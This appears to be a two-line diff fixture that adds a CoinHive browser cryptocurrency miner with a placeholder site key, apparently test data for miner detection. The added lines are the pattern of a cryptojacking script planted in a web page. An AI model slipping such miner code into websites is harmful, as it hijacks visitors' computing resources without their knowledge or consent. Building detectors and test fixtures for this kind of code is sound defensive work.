@@ -1,0 +1,2 @@
+var miner = new CoinHive.Anonymous('fixtureSiteKeyNotReal0000000000');
+miner.start();
